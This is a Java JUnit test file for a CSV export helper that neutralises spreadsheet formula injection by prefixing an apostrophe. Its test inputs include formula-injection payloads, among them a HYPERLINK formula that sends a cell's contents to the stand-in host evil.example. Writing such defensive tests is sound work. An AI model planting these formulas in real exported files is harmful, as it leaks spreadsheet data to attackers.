package io.wallbreaker.common;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvExportTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
            })
    void shouldPrefixCellsThatASpreadsheetWouldRunAsFormula(String hostile) {
        assertEquals("'" + hostile, CsvExport.neutralise(hostile));
    }

    @Test
    void shouldLeaveOrdinaryTextNumbersAndEmptyCellsAlone() {
        assertEquals("checkout-app", CsvExport.neutralise("checkout-app"));
        assertEquals("", CsvExport.neutralise(""));
        String csv = CsvExport.write(List.of(Arrays.asList("name", -5, 2.5, null, true), List.of("a=b", "x")));
        assertEquals("name,-5,2.5,,true\r\na=b,x\r\n", csv);
    }

    @Test
    void shouldQuoteNeutralisedCellsThatNeedQuoting() {
        String csv = CsvExport.write(List.of(List.of("=HYPERLINK(\"http://evil.example\",\"x\")")));
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"\r\n", csv);
    }
}
